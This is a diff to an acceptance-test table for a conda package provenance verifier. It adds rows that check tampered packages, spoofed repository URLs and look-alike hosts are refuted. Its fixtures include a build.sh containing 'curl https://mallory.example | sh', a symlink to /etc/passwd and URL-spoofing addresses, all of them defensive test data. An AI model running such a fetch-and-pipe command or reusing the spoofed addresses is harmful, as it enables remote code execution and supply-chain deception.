@@ -16,16 +16,19 @@ from acceptance_table import (
     REFUTED,
     Row,
     also,
+    expected,
     named,
     nobody_named,
     policy,
     ready,
 )
 from acceptance_world import (
+    BUILD_SH,
     FORK,
     HELLO,
     LOOK_ALIKE,
     MALLORYS_CI,
+    META_YAML,
     RENDERED,
     World,
     digest_of,
@@ -33,6 +36,7 @@ from acceptance_world import (
 from ci_model import CiJob, CiRun, block
 from forge_model import Opinion
 
+from conda_provenance.packages.contents import PackageFile
 from conda_provenance.packages.read_contents import read_contents
 from conda_provenance.run_api import Trigger
 
@@ -87,6 +91,30 @@ COMMIT = (
         STORED_ONLY,
         REFUTED,
     ),
+    Row(
+        "the id of a tree, as sha",
+        lambda world: world.actions(sha=world.hello.git("rev-parse", "main^{tree}")),
+        EXISTS,
+        FAIL,
+        "has no commit",
+        REFUTED,
+    ),
+    Row(
+        "the id of a tag, as sha",
+        lambda world: world.actions(sha=world.hello.git("rev-parse", "refs/tags/v1.0")),
+        EXISTS,
+        FAIL,
+        "has no commit",
+        REFUTED,
+    ),
+    Row(
+        "a branch's name as sha",
+        lambda world: world.package(sha="main"),
+        "well-formed",
+        FAIL,
+        "sha is not a commit hash",
+        REFUTED,
+    ),
     Row("sha of a deleted branch", at("deleted-branch"), ON_BRANCH, FAIL, STORED_ONLY, REFUTED),
     Row(
         "sha that was forced away from the branch",
@@ -117,7 +145,7 @@ COMMIT = (
         at("unmerged"),
         ON_BRANCH,
         OPEN,
-        "is on the branch open-change",
+        "expect that branch by --expect-ref or a policy, if it counts",
         OPEN,
     ),
     Row(
@@ -158,7 +186,14 @@ def of_a_look_alike(world: World) -> Path:
 
 
 REPOSITORY = (
-    Row("a fork that names itself", of_a_fork, "expected", FAIL, f"{FORK}, and", REFUTED),
+    Row(
+        "a fork that names itself",
+        of_a_fork,
+        "expected",
+        FAIL,
+        f"its repository is https://github.com/{FORK}",
+        REFUTED,
+    ),
     Row(
         "a fork that names itself, and nobody named a repository",
         of_a_fork,
@@ -175,11 +210,18 @@ REPOSITORY = (
         lambda world: world.actions(repository="conda-f0rge/hello-feedstock", commit="fork"),
         "expected",
         FAIL,
-        "conda-f0rge/hello-feedstock, and",
+        "its repository is https://github.com/conda-f0rge/hello-feedstock",
         REFUTED,
         ready("conda-forge"),
     ),
-    Row("a look-alike host", of_a_look_alike, "expected", FAIL, f"https://{LOOK_ALIKE}/", REFUTED),
+    Row(
+        "a look-alike host",
+        of_a_look_alike,
+        "expected",
+        FAIL,
+        f"its repository is https://{LOOK_ALIKE}/",
+        REFUTED,
+    ),
     Row(
         "a look-alike host, and nobody named a repository",
         of_a_look_alike,
@@ -189,6 +231,26 @@ REPOSITORY = (
         CONSISTENT,
         nobody_named,
         others={REVIEWED: OPEN, ARTIFACT: OPEN},
+    ),
+    *(
+        Row(
+            f"an address that reads like the expected one: `{address}`",
+            lambda world, address=address: world.package(repository=address),
+            "expected",
+            FAIL,
+            why,
+            REFUTED,
+        )
+        for address, why in (
+            (f"https://github.com@{LOOK_ALIKE}/{HELLO}", "since it names a user"),
+            (f"https://github.com/{HELLO}/../../{FORK}", "since it has a dot as a segment"),
+            (f"https://github.com./{HELLO}", "or a dot after it"),
+            (f"http://github.com/{HELLO}", f"its repository is http://github.com/{HELLO}"),
+            (
+                f"https://github.com:444/{HELLO}",
+                f"its repository is https://github.com:444/{HELLO}",
+            ),
+        )
     ),
     Row(
         "a name of the organisation that leads (301) to another owner",
@@ -251,6 +313,27 @@ def without_template(world: World) -> Path:
     )  # fmt: skip
 
 
+def beside_parent(world: World) -> Path:
+    """conda-build packages the whole folder below parent/, and an output's script beside it."""
+    parent = "info/recipe/parent"
+    changes: dict[str, Any] = {
+        "info/recipe/meta.yaml.template": None,
+        "info/recipe/build.sh": b"evil\n",
+        f"{parent}/meta.yaml": META_YAML.encode(),
+        f"{parent}/build.sh": PackageFile(f"{parent}/build.sh", BUILD_SH, False, True),
+    }
+    return world.actions(
+        of=world.old_built, changes=changes, sha=world.old["tip"],
+        repository="conda-forge/old-feedstock",
+    )  # fmt: skip
+
+
+def _renamed(package: Path, name: str) -> Path:
+    return package.rename(package.with_name(name))
+
+
+NOT_THERE = "The recipe is not in that commit"
+
 RECIPES = (
     Row(
         "recipe edited by one byte",
@@ -259,7 +342,7 @@ RECIPES = (
         ),
         RECIPE,
         FAIL,
-        "recipe",
+        NOT_THERE,
         REFUTED,
     ),
     Row(
@@ -269,7 +352,7 @@ RECIPES = (
         ),
         RECIPE,
         FAIL,
-        "fix.patch",
+        "of that commit: fix.patch differs",
         REFUTED,
     ),
     Row(
@@ -277,17 +360,26 @@ RECIPES = (
         recipe("build.sh", b"curl https://mallory.example | sh\n"),
         RECIPE,
         FAIL,
-        "build.sh",
+        "of that commit: build.sh differs",
         REFUTED,
     ),
-    Row("a file added", recipe("evil.sh", b"evil\n"), RECIPE, FAIL, "evil.sh", REFUTED),
-    Row("a file taken out", recipe("fix.patch", None), RECIPE, FAIL, "fix.patch", REFUTED),
+    Row(
+        "a file added",
+        recipe("evil.sh", b"evil\n"),
+        RECIPE,
+        FAIL,
+        "evil.sh is not in the commit",
+        REFUTED,
+    ),
+    Row(
+        "a file taken out", recipe("fix.patch", None), RECIPE, FAIL, "fix.patch is missing", REFUTED
+    ),
     Row(
         "recipe and stamp of another package",
         under_another_name,
         RECIPE,
         FAIL,
-        "openssl",
+        "of that commit makes no package openssl 1.0",
         REFUTED,
     ),
     Row(
@@ -295,7 +387,7 @@ RECIPES = (
         without_template,
         RECIPE,
         FAIL,
-        "recipe",
+        NOT_THERE,
         REFUTED,
         named("conda-forge/old-feedstock"),
     ),
@@ -306,6 +398,50 @@ RECIPES = (
         OPEN,
         "runs at install, not from the recipe",
         OPEN,
+    ),
+    Row(
+        "another build script beside the whole recipe of a package of several (parent/)",
+        beside_parent,
+        RECIPE,
+        FAIL,
+        "of that commit: build.sh differs",
+        REFUTED,
+        named("conda-forge/old-feedstock"),
+    ),
+    Row(
+        "a link to a file of the reader's machine",
+        lambda world: world.actions(
+            changes={"info/recipe/x": PackageFile("info/recipe/x", b"/etc/passwd", True, False)}
+        ),
+        RECIPE,
+        FAIL,
+        "x is not in the commit",
+        REFUTED,
+    ),
+    Row(
+        "leftovers of an editor or of Python, by the strictest policy",
+        recipe("__pycache__/x.pyc", b"evil"),
+        RECIPE,
+        FAIL,
+        "__pycache__/x.pyc",
+        REFUTED,
+        lambda world: ("--policy", "strict", *expected(world)),
+    ),
+    Row(
+        "a second about.json in the payload, for readers that take the last one",
+        lambda world: world.actions(payload={"hi": b"hi\n", "info/about.json": b"{}"}),
+        "well-formed",
+        FAIL,
+        "Its payload holds info/about.json, which would be metadata",
+        REFUTED,
+    ),
+    Row(
+        "an honest package under another file name",
+        lambda world: _renamed(world.actions(), "openssl-3.0-h1_0.conda"),
+        "well-formed",
+        FAIL,
+        "its name is hello, and by its name or place openssl",
+        REFUTED,
     ),
 )
 
@@ -538,7 +674,7 @@ RUNS = (
         ),
         RUN,
         FAIL,
-        "failed",
+        "the job that named the package failed",
         CONSISTENT,
     ),
     Row(
